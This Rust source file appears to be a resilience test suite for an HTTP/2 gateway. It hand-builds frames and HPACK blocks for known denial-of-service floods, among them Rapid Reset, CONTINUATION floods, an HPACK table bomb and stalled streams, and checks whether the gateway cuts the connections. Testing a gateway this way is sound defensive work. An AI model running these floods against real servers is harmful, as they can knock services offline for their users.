//! HTTP/2 by hand: frames that are allowed one by one, and too much together.

use super::ground::{Ground, repeat};
use tokio::time::Instant;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or_default()
        .to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend(payload);
    frame
}

/// The preface and empty settings.
fn hello() -> Vec<u8> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(frame(SETTINGS, 0, 0, &[]));
    bytes
}

/// HPACK of a POST to /github, of literals and the static table.
fn request() -> Vec<u8> {
    let mut block = vec![0x83, 0x86, 0x04, 7];
    block.extend(b"/github");
    block.extend([0x01, 1, b'g']);
    block
}

fn open(stream: u32, flags: u8) -> Vec<u8> {
    frame(HEADERS, flags | END_HEADERS, stream, &request())
}

/// Client streams have odd ids.
fn ids(from: u32, many: u32) -> impl Iterator<Item = u32> {
    (from..from + many).map(|n| 2 * n + 1)
}

/// Rounds of a frame sequence on connections of their own; every connection that the gateway ends is
/// followed by another, until the time is over.
async fn rounds(
    ground: &Ground,
    ends: bool,
    start: &[u8],
    piece: &[u8],
    most: u64,
) -> Result<String, String> {
    let until = ground.until();
    let head = [hello(), start.to_vec()].concat();
    let (mut connections, mut ended, mut sent) = (0, 0, 0);
    loop {
        let stream = ground.dial(connections).await.map_err(|e| e.to_string())?;
        let patience = std::time::Duration::from_millis(300);
        let answer = repeat(stream, &head, piece, most, patience).await;
        connections += 1;
        ended += usize::from(answer.closed);
        sent += answer.sent + head.len() as u64;
        // Each frame of the answers that ends a connection: GOAWAY.
        if ends && !answer.closed {
            return Err(format!("a connection was kept after {} bytes", answer.sent));
        }
        if Instant::now() >= until {
            return Ok(format!(
                "{connections} connections, {ended} ended by the gateway, {} KiB sent",
                sent >> 10
            ));
        }
    }
}

/// Streams opened and reset at once (CVE-2023-44487).
pub(super) async fn rapid_reset(ground: Ground) -> Result<String, String> {
    let flood: Vec<u8> = ids(0, 100_000)
        .flat_map(|id| [open(id, 0), frame(RST_STREAM, 0, id, &8u32.to_be_bytes())].concat())
        .collect();
    rounds(&ground, true, &flood, &[], 0).await
}

/// A head that goes on in CONTINUATION frames without end (RUSTSEC-2024-0332).
pub(super) async fn continuation(ground: Ground) -> Result<String, String> {
    let start = frame(HEADERS, 0, 1, &request());
    let mut header = vec![0, 1, b'a', 127, 0x80 | 1, 0x7f];
    header.truncate(3);
    // A literal of 100 bytes, again and again.
    header.push(100);
    header.extend([b'b'; 100]);
    let piece = frame(CONTINUATION, 0, 1, &header.repeat(100));
    rounds(&ground, true, &start, &piece, 1 << 30).await
}

/// CONTINUATION frames that hold nothing.
pub(super) async fn empty_continuation(ground: Ground) -> Result<String, String> {
    let start = frame(HEADERS, 0, 1, &request());
    let piece = frame(CONTINUATION, 0, 1, &[]).repeat(1000);
    rounds(&ground, true, &start, &piece, 1 << 30).await
}

/// DATA frames that hold nothing (RUSTSEC-2026-0258).
pub(super) async fn empty_data(ground: Ground) -> Result<String, String> {
    let piece = frame(DATA, 0, 1, &[]).repeat(1000);
    rounds(&ground, true, &open(1, 0), &piece, 1 << 30).await
}

/// DATA frames of one byte each.
pub(super) async fn tiny_data(ground: Ground) -> Result<String, String> {
    let piece = frame(DATA, 0, 1, b"x").repeat(1000);
    rounds(&ground, false, &open(1, 0), &piece, 8 << 20).await
}

pub(super) async fn settings(ground: Ground) -> Result<String, String> {
    // Initial window size up and down, which has every stream looked at.
    let up = [0, 4, 0, 0x7f, 0xff, 0xff];
    let piece = [
        frame(SETTINGS, 0, 0, &up),
        frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]),
    ]
    .concat();
    let streams: Vec<u8> = ids(0, 200).flat_map(|id| open(id, 0)).collect();
    rounds(&ground, false, &streams, &piece.repeat(100), 8 << 20).await
}

pub(super) async fn pings(ground: Ground) -> Result<String, String> {
    let piece = frame(PING, 0, 0, &[7; 8]).repeat(1000);
    rounds(&ground, false, &[], &piece, 16 << 20).await
}

pub(super) async fn priorities(ground: Ground) -> Result<String, String> {
    let flood: Vec<u8> = ids(0, 100_000)
        .flat_map(|id| frame(PRIORITY, 0, id, &[0, 0, 0, 0, 16]))
        .collect();
    rounds(&ground, false, &[], &flood, 16 << 20).await
}

/// A million streams, all open at once as far as the gateway lets them.
pub(super) async fn streams(ground: Ground) -> Result<String, String> {
    let many = if ground.short { 10_000 } else { 1_000_000 };
    let flood: Vec<u8> = ids(0, many).flat_map(|id| open(id, 0)).collect();
    rounds(&ground, true, &flood, &[], 0).await
}

/// A million streams one after the other, each a whole request.
pub(super) async fn requests(ground: Ground) -> Result<String, String> {
    let many = if ground.short { 1_000 } else { 100_000 };
    let flood: Vec<u8> = ids(0, many).flat_map(|id| open(id, END_STREAM)).collect();
    rounds(&ground, false, &flood, &[], 0).await
}

/// Windows of nothing, and windows beyond what a window can be.
pub(super) async fn windows(ground: Ground) -> Result<String, String> {
    let mut said = Vec::new();
    for update in [0u32, 0x7fff_ffff] {
        let flood = [frame(WINDOW_UPDATE, 0, 0, &update.to_be_bytes()).repeat(3)].concat();
        said.push(rounds(&ground, true, &flood, &[], 0).await?);
    }
    // A window of one byte for answers, which are then never read.
    let closed = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let flood: Vec<u8> = ids(0, 200).flat_map(|id| open(id, END_STREAM)).collect();
    said.push(rounds(&ground, false, &[closed, flood].concat(), &[], 0).await?);
    Ok(said.join("; "))
}

/// One large entry of the dynamic table, named again and again: few bytes, a giant head.
pub(super) async fn header_table(ground: Ground) -> Result<String, String> {
    let mut first = request();
    // Literal with indexing, a new name, a value of 4,000 bytes (a prefix of 7 bits: 127, then 3873).
    first.extend([0x40, 1, b'a', 0x7f, 0xa1, 0x1e]);
    first.extend([b'b'; 4000]);
    // Index 62 is the newest entry.
    let bomb = [request(), vec![0x80 | 62; 12_000]].concat();
    let start = [
        frame(HEADERS, END_HEADERS | END_STREAM, 1, &first),
        ids(1, 200)
            .flat_map(|id| frame(HEADERS, END_HEADERS | END_STREAM, id, &bomb))
            .collect(),
    ]
    .concat();
    rounds(&ground, false, &start, &[], 0).await
}

/// Streams that stall within their bodies, on one connection after the other.
pub(super) async fn stalled(ground: Ground) -> Result<String, String> {
    let mut held = Vec::new();
    for n in 0..ground.many(100) {
        let mut bytes = hello();
        for id in ids(0, 256) {
            bytes.extend(open(id, 0));
            bytes.extend(frame(DATA, 0, id, &[b'a'; 1000]));
        }
        let mut stream = ground.dial(n).await.map_err(|e| e.to_string())?;
        tokio::io::AsyncWriteExt::write_all(&mut stream, &bytes)
            .await
            .ok();
        held.push(stream);
    }
    tokio::time::sleep_until(ground.until()).await;
    Ok(format!("{} connections of 256 stalled streams", held.len()))
}

/// Connections that make one request, and then hold on to what they have.
pub(super) async fn idle(ground: Ground) -> Result<String, String> {
    super::crowds::hold(&ground, &[hello(), open(1, END_STREAM)].concat()).await
}
